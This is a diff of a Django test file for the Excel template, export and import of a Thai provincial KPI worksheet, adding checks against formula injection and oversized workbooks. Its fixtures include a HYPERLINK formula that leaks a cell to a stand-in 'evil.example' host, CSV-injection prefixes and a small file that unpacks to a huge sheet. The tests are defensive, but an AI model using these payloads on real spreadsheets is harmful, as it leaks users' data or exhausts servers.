@@ -1,17 +1,24 @@
 """Worksheet 1 to and from Excel: the template, the export and the all-or-nothing import."""
 
+import html
 import io
+import re
+import time
 import zipfile
 from decimal import Decimal
+from xml.etree import ElementTree
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
+from django.utils import timezone
 from openpyxl import Workbook, load_workbook
 
+from core.documents import excel as documents
 from tests.factories import AgencyFactory, FiscalYearFactory, IssueFactory, KpiFactory
+from worksheets import excel
 from worksheets.models import Kpi
 
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
@@ -401,39 +408,7 @@ BAD_ROWS = {
     ),
     "missing name": (
         [2, 2, "  ", "ร้อยละ"],
-        "แถวที่ 4 คอลัมน์ C (ชื่อตัวชี้วัดตามคำรับรองการปฏิบัติราชการ): กรุณากรอกชื่อตัวชี้วัด",
-    ),
-    "weight 150": (
-        [2, 2, "ตัวชี้วัด", None, None, 150],
-        "แถวที่ 4 คอลัมน์ F (น้ำหนัก (ร้อยละ)): กรุณากรอกน้ำหนักเป็นตัวเลขตั้งแต่ 0 ถึง 100 และมีทศนิยมไม่เกิน 2 ตำแหน่ง",
-    ),
-    "weight in words": (
-        [2, 2, "ตัวชี้วัด", None, None, "สิบ"],
-        "แถวที่ 4 คอลัมน์ F (น้ำหนัก (ร้อยละ)): กรุณากรอกน้ำหนักเป็นตัวเลขตั้งแต่ 0 ถึง 100 และมีทศนิยมไม่เกิน 2 ตำแหน่ง",
-    ),
-    "weight with three decimals": (
-        [2, 2, "ตัวชี้วัด", None, None, "12.345"],
-        "แถวที่ 4 คอลัมน์ F (น้ำหนัก (ร้อยละ)): กรุณากรอกน้ำหนักเป็นตัวเลขตั้งแต่ 0 ถึง 100 และมีทศนิยมไม่เกิน 2 ตำแหน่ง",
-    ),
-    "KPI number in words": (
-        [2, "สอง", "ตัวชี้วัด"],
-        "แถวที่ 4 คอลัมน์ B (ตัวชี้วัดที่): กรุณากรอกหมายเลขตัวชี้วัดเป็นจำนวนเต็มตั้งแต่ 1 ขึ้นไป",
-    ),
-    "KPI number 2.5": (
-        [2, 2.5, "ตัวชี้วัด"],
-        "แถวที่ 4 คอลัมน์ B (ตัวชี้วัดที่): กรุณากรอกหมายเลขตัวชี้วัดเป็นจำนวนเต็มตั้งแต่ 1 ขึ้นไป",
-    ),
-    "KPI number 0": (
-        [2, 0, "ตัวชี้วัด"],
-        "แถวที่ 4 คอลัมน์ B (ตัวชี้วัดที่): กรุณากรอกหมายเลขตัวชี้วัดเป็นจำนวนเต็มตั้งแต่ 1 ขึ้นไป",
-    ),
-    "KPI number as a superscript": (
-        [2, "²", "ตัวชี้วัด"],
-        "แถวที่ 4 คอลัมน์ B (ตัวชี้วัดที่): กรุณากรอกหมายเลขตัวชี้วัดเป็นจำนวนเต็มตั้งแต่ 1 ขึ้นไป",
-    ),
-    "KPI number too large for the database": (
-        [2, 40000, "ตัวชี้วัด"],
-        "แถวที่ 4 คอลัมน์ B (ตัวชี้วัดที่): กรุณากรอกหมายเลขตัวชี้วัดเป็นจำนวนเต็มตั้งแต่ 1 ขึ้นไป",
+        "แถวที่ 4 คอลัมน์ C (ชื่อตัวชี้วัดตามคำรับรองการปฏิบัติราชการ): ฟิลด์นี้จำเป็น",
     ),
     "the same KPI twice": (
         [1, 1, "ตัวชี้วัดซ้ำ"],
@@ -444,31 +419,91 @@ BAD_ROWS = {
         "แถวที่ 4 คอลัมน์ H (ส่วนราชการที่เกี่ยวข้อง): ส่วนราชการหนึ่งเป็นได้เพียงผู้รับผิดชอบหรือผู้เกี่ยวข้องอย่างใดอย่างหนึ่ง "
         "ไม่สามารถเป็นทั้งสองอย่าง กรุณาแก้ไข: สำนักงานเกษตรจังหวัดกาฬสินธุ์",
     ),
+}
+
+
+# The screen's KpiForm says these; asserted in English until the Thai catalogue has the new wording.
+BAD_ROWS_OF_THE_FORM = {
+    "weight 150": (
+        [2, 2, "ตัวชี้วัด", None, None, 150],
+        "Row 4, column F (Weight (%)): Enter the weight as a number from 0 to 100, with at most two decimals.",
+    ),
+    "weight in words": (
+        [2, 2, "ตัวชี้วัด", None, None, "สิบ"],
+        "Row 4, column F (Weight (%)): Enter the weight as a number from 0 to 100, with at most two decimals.",
+    ),
+    "weight with three decimals": (
+        [2, 2, "ตัวชี้วัด", None, None, "12.345"],
+        "Row 4, column F (Weight (%)): Enter the weight as a number from 0 to 100, with at most two decimals.",
+    ),
+    "negative weight": (
+        [2, 2, "ตัวชี้วัด", None, None, -1],
+        "Row 4, column F (Weight (%)): Enter the weight as a number from 0 to 100, with at most two decimals.",
+    ),
+    "KPI number in words": (
+        [2, "สอง", "ตัวชี้วัด"],
+        "Row 4, column B (KPI no.): Enter the KPI number, a whole number from 1.",
+    ),
+    "KPI number 2.5": (
+        [2, 2.5, "ตัวชี้วัด"],
+        "Row 4, column B (KPI no.): Enter the KPI number, a whole number from 1.",
+    ),
+    "KPI number 0": (
+        [2, 0, "ตัวชี้วัด"],
+        "Row 4, column B (KPI no.): Enter the KPI number, a whole number from 1.",
+    ),
+    "KPI number as a superscript": (
+        [2, "²", "ตัวชี้วัด"],
+        "Row 4, column B (KPI no.): Enter the KPI number, a whole number from 1.",
+    ),
+    "KPI number too large for the database": (
+        [2, 40000, "ตัวชี้วัด"],
+        "Row 4, column B (KPI no.): Enter the KPI number, a whole number from 1.",
+    ),
     "unit too long": (
         [2, 2, "ตัวชี้วัด", "ก" * 101],
-        "แถวที่ 4 คอลัมน์ D (หน่วยนับ): ยาวเกิน 100 ตัวอักษร กรุณาย่อให้สั้นลง",
+        "Row 4, column D (Unit): At most 100 characters; this has 101.",
     ),
     "name too long": (
         [2, 2, "ก" * 501],
-        "แถวที่ 4 คอลัมน์ C (ชื่อตัวชี้วัดตามคำรับรองการปฏิบัติราชการ): ชื่อตัวชี้วัดยาวเกิน 500 ตัวอักษร กรุณาย่อให้สั้นลง",
+        "Row 4, column C (KPI name under the performance agreement): At most 500 characters; this has 501.",
     ),
 }
 
 
-@pytest.mark.parametrize("bad_row, message", BAD_ROWS.values(), ids=BAD_ROWS.keys())
+def _english(client):
+    client.post(reverse("set_language"), {"language": "en", "next": reverse("worksheet1")})
+    return client
+
+
+def _errors(response) -> list[str]:
+    """The import page's list of errors, as a person reads it."""
+    found = re.search(r'<ul class="mb-0 import-errors">(.*?)</ul>', response.content.decode(), re.S)
+    return [
+        html.unescape(item) for item in re.findall(r"<li>(.*?)</li>", found.group(1) if found else "", re.S)
+    ]
+
+
+@pytest.mark.parametrize(
+    "bad_row, message, english",
+    [(*case, False) for case in BAD_ROWS.values()]
+    + [(*case, True) for case in BAD_ROWS_OF_THE_FORM.values()],
+    ids=[*BAD_ROWS, *BAD_ROWS_OF_THE_FORM],
+)
 def test_a_bad_row_names_row_and_column_and_imports_nothing(
-    login, km_officer, kpi, province, stranger, bad_row, message
+    login, km_officer, kpi, province, stranger, bad_row, message, english
 ):
     IssueFactory(fiscal_year=FiscalYearFactory(province=province, year=2570), number=3)
     before = _state()
     client = login(km_officer)
+    if english:
+        _english(client)
     _select_year(client, 2569)
     response = _import(client, _sheet(*GOOD_ROWS, bad_row))
     assert response.status_code == 422
-    page = response.content.decode()
-    assert NOTHING_IMPORTED in page
-    assert f"<li>{message}</li>" in page
-    assert page.count("<li>แถวที่") == 1
+    if not english:
+        assert NOTHING_IMPORTED in response.content.decode()
+    assert _errors(response) == [message]
     assert _state() == before
 
 
@@ -607,3 +642,329 @@ def test_a_new_agency_is_accepted_by_the_next_import(login, km_officer, kpi, pro
     _import(login(km_officer), _sheet([2, 1, "ตัวชี้วัดใหม่", None, None, None, "พณจ.กส."]))
     added = Kpi.objects.get(issue__number=2, number=1)
     assert [a.short_name for a in added.responsible_agencies.all()] == ["พณจ.กส."]
+
+
+# --- Spreadsheets are no way in ---------------------------------------------------------------
+
+MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
+FORMULA_LIKE = ['=HYPERLINK("http://evil.example/?leak="&A1,"เปิด")', "+66 43 811 000", "-5 %", "@SUM(A1:A9)"]
+
+
+def _stored_cells(data: bytes, sheet: int) -> dict[str, tuple]:
+    """Each cell of a saved workbook's sheet as the file stores it: (type, quote prefix, formula, text)."""
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        styles = ElementTree.fromstring(archive.read("xl/styles.xml"))
+        root = ElementTree.fromstring(archive.read(f"xl/worksheets/sheet{sheet}.xml"))
+    quoted = [xf.get("quotePrefix") == "1" for xf in styles.find(f"{MAIN}cellXfs")]
+    return {
+        c.get("r"): (
+            c.get("t"),
+            quoted[int(c.get("s", 0))],
+            c.find(f"{MAIN}f") is not None,
+            "".join(t.text or "" for t in c.iter(f"{MAIN}t")),
+        )
+        for c in root.iter(f"{MAIN}c")
+    }
+
+
+def test_the_export_writes_text_that_looks_like_a_formula_as_text(login, km_officer, kpi, other_agency):
+    name, unit, target, remark = FORMULA_LIKE
+    Kpi.objects.filter(pk=kpi.pk).update(name=name, unit=unit, target=target, remark=remark)
+    other_agency.name = '=HYPERLINK("http://evil.example","x")'
+    other_agency.save()
+    data = login(km_officer).get(reverse("kpi-export")).content
+    cells = _stored_cells(data, 1)
+    assert not any(formula for _t, _q, formula, _text in cells.values())
+    for ref, text in (("C2", name), ("D2", unit), ("E2", target), ("H2", other_agency.name), ("I2", remark)):
+        assert cells[ref] == ("inlineStr", True, False, text)
+    assert cells["G2"][:2] == ("inlineStr", False)  # an agency's ordinary name has no prefix
+    assert cells["A2"] == ("n", False, False, "")  # numbers stay numbers
+    assert [c.value for c in load_workbook(io.BytesIO(data)).worksheets[0][2]][2:5] == [name, unit, target]
+
+
+def test_text_that_looks_like_a_formula_comes_back_unchanged(login, km_officer, kpi):
+    name, unit, target, remark = FORMULA_LIKE
+    Kpi.objects.filter(pk=kpi.pk).update(name=name, unit=unit, target=target, remark=remark)
+    before = _state()
+    client = login(km_officer)
+    response = _import(client, client.get(reverse("kpi-export")).content)
+    assert response.redirect_chain == [(reverse("worksheet1"), 302)]
+    assert _state() == before
+
+
+def test_the_template_writes_an_agency_named_like_a_formula_as_text(login, km_officer, fiscal_year, province):
+    hostile = AgencyFactory(province=province, name='=HYPERLINK("http://evil.example","x")', short_name="@x")
+    data = login(km_officer).get(reverse("kpi-template")).content
+    cells = _stored_cells(data, 3)  # the sheet "Agencies"
+    assert not any(formula for _t, _q, formula, _text in cells.values())
+    row = next(ref[1:] for ref, (_t, _q, _f, text) in cells.items() if text == hostile.name)
+    assert cells[f"A{row}"] == ("inlineStr", True, False, hostile.name)
+    assert cells[f"B{row}"] == ("inlineStr", True, False, "@x")
+    sheet = load_workbook(io.BytesIO(data))["ส่วนราชการ"]
+    assert sheet[f"A{row}"].data_type == "s" and sheet[f"A{row}"].value == hostile.name
+
+
+@pytest.mark.parametrize(
+    "column, formula, message",
+    [
+        ("C", '="ร้อยละ"&"ของพื้นที่"', "Row 2, column C (KPI name under the performance agreement)"),
+        ("G", "=Agencies!A2", "Row 2, column G (Responsible agencies)"),
+        ("F", "=10*2", "Row 2, column F (Weight (%))"),
+    ],
+)
+def test_a_formula_cell_is_refused_by_row_and_column(login, km_officer, kpi, column, formula, message):
+    """A script's workbook keeps no value beside a formula: read as values, the cell was empty."""
+    workbook = Workbook()
+    sheet = workbook.active
+    sheet.append(HEADER)
+    sheet.append([2, 1, "ตัวชี้วัดใหม่", "ร้อยละ", "5", 10, "กษจ.กส.", None, None])
+    sheet[f"{column}2"] = formula
+    before = _state()
+    response = _import(_english(login(km_officer)), _workbook_bytes(workbook))
+    assert response.status_code == 422
+    assert _errors(response) == [
+        f"{message}: the cell holds a formula; type its value instead (in Excel: copy, then paste values)."
+    ]
+    assert _state() == before
+
+
+def test_moved_columns_are_named_and_nothing_is_imported(login, km_officer, kpi):
+    moved = HEADER.copy()
+    moved[2], moved[8] = moved[8], moved[2]  # name and remark swapped, rows written accordingly
+    before = _state()
+    response = _import(
+        _english(login(km_officer)),
+        _sheet([1, 1, "เดิม", "ร้อยละ", "90", 30, None, None, "ชื่อใหม่"], header=moved),
+    )
+    assert response.status_code == 422
+    assert _errors(response) == [
+        "Row 1, column C (KPI name under the performance agreement): this column is headed “หมายเหตุ”, "
+        "which belongs in column I; put the columns back in the template's order.",
+        "Row 1, column I (Remark): this column is headed “ชื่อตัวชี้วัดตามคำรับรองการปฏิบัติราชการ”, "
+        "which belongs in column C; put the columns back in the template's order.",
+    ]
+    assert _state() == before
+
+
+def test_a_missing_or_renamed_column_is_named(login, km_officer, kpi):
+    header = HEADER[:5] + ["น้ำหนัก"] + HEADER[6:8]
+    response = _import(_english(login(km_officer)), _sheet([2, 1, "ตัวชี้วัดใหม่"], header=header))
+    assert _errors(response) == [
+        "Row 1, column F (Weight (%)): expected the header “Weight (%)”, found “น้ำหนัก”.",
+        "Row 1, column I (Remark): the header “Remark” is missing.",
+    ]
+
+
+def test_the_header_may_be_english_and_spaced_differently(login, km_officer, kpi):
+    english = [
+        "Strategic issue no.", "KPI no.", "KPI name under the  performance agreement", "unit", "TARGET",
+        "Weight (%)", "Responsible\nagencies", "Involved agencies", " Remark ",
+    ]  # fmt: skip
+    spaced = [label.replace(" ", "\n") for label in HEADER]
+    for header, name in ((english, "ตัวชี้วัดใหม่"), (spaced, "ตัวชี้วัดใหม่อีกครั้ง")):
+        response = _import(login(km_officer), _sheet([2, 1, name], header=header))
+        assert response.redirect_chain == [(reverse("worksheet1"), 302)]
+        assert Kpi.objects.get(issue__number=2, number=1).name == name
+
+
+# --- Size -------------------------------------------------------------------------------------
+
+TOO_MANY_ROWS = (
+    "An import takes at most {max} KPI rows (rows 2 to {last}); this sheet goes on below row {last}. "
+    "Split the file, or delete the empty rows below the KPIs."
+)
+
+
+def _rewrite_sheet(data: bytes, change) -> bytes:
+    """The workbook with its first sheet's XML passed through ``change``, as a script could write it."""
+    source = zipfile.ZipFile(io.BytesIO(data))
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        for part in source.infolist():
+            content = source.read(part)
+            if part.filename == "xl/worksheets/sheet1.xml":
+                content = change(content.decode()).encode()
+            archive.writestr(part.filename, content)
+    return buffer.getvalue()
+
+
+def _no_row_is_read(monkeypatch):
+    def refuse(*args, **kwargs):
+        raise AssertionError("the rows were read")
+
+    monkeypatch.setattr("openpyxl.worksheet._reader.WorkSheetParser.parse", refuse)
+
+
+def test_a_sheet_that_declares_more_rows_than_the_limit_is_refused_before_reading(
+    login, km_officer, kpi, monkeypatch
+):
+    data = _rewrite_sheet(
+        _sheet([2, 1, "ตัวชี้วัดใหม่"]),
+        lambda xml: re.sub(r'<dimension ref="[^"]*"', '<dimension ref="A1:I1048576"', xml),
+    )
+    _no_row_is_read(monkeypatch)
+    response = _import(_english(login(km_officer)), data)
+    assert response.status_code == 422
+    assert _errors(response) == [TOO_MANY_ROWS.format(max=1000, last=1001)]
+
+
+def test_a_small_file_that_unpacks_to_a_huge_sheet_is_refused_from_its_size(
+    login, km_officer, kpi, monkeypatch
+):
+    """60 KB that unpack to 30 MB of empty cells, with a dimension that lies: nothing is parsed."""
+    data = _rewrite_sheet(
+        _sheet(),
+        lambda xml: xml.replace(
+            "</sheetData>", '<row r="2">' + '<c r="B2"/>' * 3_000_000 + "</row></sheetData>"
+        ),
+    )
+    assert len(data) < 100_000
+    monkeypatch.setattr(
+        "worksheets.excel.load_workbook", lambda *a, **k: pytest.fail("the workbook was opened")
+    )
+    started = time.perf_counter()
+    response = _import(_english(login(km_officer)), data)
+    assert time.perf_counter() - started < 1
+    assert _errors(response) == [
+        "The workbook is far larger than 1000 KPI rows need once unpacked. "
+        "Copy the KPI rows alone into the template and import that."
+    ]
+
+
+def _rows_of_issue_2(count: int) -> list[list]:
+    return [[2, number, f"ตัวชี้วัดที่ {number}"] for number in range(1, count + 1)]
+
+
+def test_a_file_may_hold_up_to_the_row_limit(login, km_officer, kpi, monkeypatch):
+    monkeypatch.setattr("worksheets.excel.MAX_KPI_ROWS", 3)
+    response = _import(_english(login(km_officer)), _sheet(*_rows_of_issue_2(3)))
+    assert response.redirect_chain == [(reverse("worksheet1"), 302)]
+    assert Kpi.objects.filter(issue__number=2).count() == 3
+
+
+def test_a_file_over_the_row_limit_is_refused(login, km_officer, kpi, monkeypatch):
+    monkeypatch.setattr("worksheets.excel.MAX_KPI_ROWS", 3)
+    response = _import(_english(login(km_officer)), _sheet(*_rows_of_issue_2(4)))
+    assert _errors(response) == [TOO_MANY_ROWS.format(max=3, last=4)]
+    assert not Kpi.objects.filter(issue__number=2).exists()
+
+
+def test_rows_below_a_dimension_that_lies_are_not_missed(login, km_officer, kpi, monkeypatch):
+    monkeypatch.setattr("worksheets.excel.MAX_KPI_ROWS", 3)
+    data = _rewrite_sheet(
+        _sheet(*_rows_of_issue_2(4)),
+        lambda xml: re.sub(r'<dimension ref="[^"]*"', '<dimension ref="A1:I2"', xml),
+    )
+    response = _import(_english(login(km_officer)), data)
+    assert _errors(response) == [TOO_MANY_ROWS.format(max=3, last=4)]
+    assert not Kpi.objects.filter(issue__number=2).exists()
+
+
+def test_checking_rows_takes_the_same_queries_for_any_number_of_rows(kpi, fiscal_year, agency, other_agency):
+    def queries(rows: int) -> int:
+        data = _sheet(
+            *([2, n, f"ตัวชี้วัด {n}", "ร้อยละ", "5", 10, agency.name, other_agency.name] for n in range(1, rows))
+        )
+        with CaptureQueriesContext(connection) as captured:
+            assert len(excel.parse(fiscal_year, data)) == rows - 1
+        return len(captured.captured_queries)
+
+    assert queries(3) == queries(40)
+
+
+# --- The import keeps the screen's rules ------------------------------------------------------
+
+
+def test_a_finalised_issue_is_not_changed_by_an_import(login, km_officer, kpi):
+    kpi.issue.finalised_at = timezone.now()
+    kpi.issue.save()
+    before = _state()
+    response = _import(
+        _english(login(km_officer)), _sheet([1, 1, "ชื่อที่แก้ไข"], [1, 2, "ตัวชี้วัดเพิ่ม"], GOOD_ROWS[1])
+    )
+    assert response.status_code == 422
+    finalised = (
+        "column A (Strategic issue no.): strategic issue 1 is finalised and this row would change it; "
+        "reopen the issue first, or leave the row as it is."
+    )
+    assert _errors(response) == [f"Row 2, {finalised}", f"Row 3, {finalised}"]
+    assert _state() == before
+
+
+def test_an_unchanged_row_of_a_finalised_issue_passes(login, km_officer, kpi):
+    kpi.issue.finalised_at = timezone.now()
+    kpi.issue.save()
+    client = login(km_officer)
+    exported = _workbook_bytes(_open(client.get(reverse("kpi-export"))))
+    workbook = load_workbook(io.BytesIO(exported))
+    workbook.worksheets[0].append(GOOD_ROWS[1])
+    history = kpi.history.count()
+    response = _import(client, _workbook_bytes(workbook))
+    assert response.redirect_chain == [(reverse("worksheet1"), 302)]
+    assert Kpi.objects.get(issue__number=2, number=1).name == "ตัวชี้วัดใหม่ที่ถูกต้อง"
+    assert kpi.history.count() == history  # nothing written for the unchanged KPI
+
+
+def test_an_inactive_agency_is_refused_as_on_the_screen_unless_the_kpi_names_it(
+    login, km_officer, kpi, agency, other_agency
+):
+    other_agency.is_active = False
+    other_agency.save()
+    client = _english(login(km_officer))
+    response = _import(client, _sheet([2, 1, "ตัวชี้วัดใหม่", None, None, None, None, other_agency.name]))
+    assert _errors(response) == [
+        f"Row 2, column H (Involved agencies): Select a valid choice. {other_agency.name} "
+        "is not one of the available choices."
+    ]
+    # KPI 1.1 names it already: kept, as the screen keeps it.
+    response = _import(client, _sheet([1, 1, "ชื่อใหม่", None, None, None, agency.name, other_agency.name]))
+    assert response.redirect_chain == [(reverse("worksheet1"), 302)]
+    assert list(Kpi.objects.get(pk=kpi.pk).involved_agencies.all()) == [other_agency]
+
+
+def test_an_import_leaves_one_history_entry_per_kpi_it_changes(
+    login, km_officer, kpi, agency, other_agency, province_office
+):
+    history = kpi.history.count()
+    _import(
+        login(km_officer),
+        _sheet(
+            [1, 1, "ร้อยละของพื้นที่เกษตรปลอดภัย", "ร้อยละ", "80", 10, agency.name, province_office.name, "เดิม"],
+            [2, 1, "ตัวชี้วัดใหม่", None, None, None, other_agency.name],
+        ),
+    )
+    assert kpi.history.count() == history + 1
+    changed = kpi.history.latest()
+    assert (changed.history_type, changed.history_user) == ("~", km_officer)
+    assert [r.agency for r in changed.historicalkpi_involved_agencies_set.all()] == [province_office]
+    assert [r.agency for r in changed.historicalkpi_responsible_agencies_set.all()] == [agency]
+    added = Kpi.objects.get(issue__number=2, number=1).history.get()
+    assert (added.history_type, added.history_user, added.name) == ("+", km_officer, "ตัวชี้วัดใหม่")
+    assert [r.agency for r in added.historicalkpi_responsible_agencies_set.all()] == [other_agency]
+
+
+def test_the_writer_keeps_every_text_a_text():
+    """core.documents.excel, which every workbook goes through: OWASP's CSV-injection starts, an
+    Excel error code and control characters Excel cannot store."""
+    book = documents.workbook()
+    sheet = documents.sheet(book, "ทดสอบ", [("ข้อความ", 20)])
+    texts = ["=1+1", "+1", "-1", "@A1", "\tรายการ", "\rรายการ", "#N/A", "ร้อยละ 80", "ก\x0bข"]
+    for text in texts:
+        documents.append(sheet, [text, 5, Decimal("12.5"), None])
+    cells = _stored_cells(documents.to_bytes(book), 1)
+    assert not any(formula for _t, _q, formula, _text in cells.values())
+    stored = [cells[f"A{row}"] for row in range(2, len(texts) + 2)]
+    assert [(kind, quoted) for kind, quoted, _f, _text in stored] == [("inlineStr", True)] * 6 + [
+        ("inlineStr", False)
+    ] * 3
+    assert [text for *_rest, text in stored][6:] == ["#N/A", "ร้อยละ 80", "กข"]
+    assert cells["B2"] == ("n", False, False, "") and cells["C2"][0] == "n"
+
+
+def test_a_sheet_that_breaks_off_is_no_workbook(login, km_officer, kpi):
+    data = _rewrite_sheet(_sheet(*_rows_of_issue_2(3)), lambda xml: xml[: xml.index('<row r="3"') + 20])
+    before = _state()
+    response = _import(login(km_officer), data)
+    assert response.status_code == 422
+    assert "ไฟล์นี้ไม่ใช่ไฟล์ Excel (.xlsx)" in response.content.decode()
+    assert _state() == before
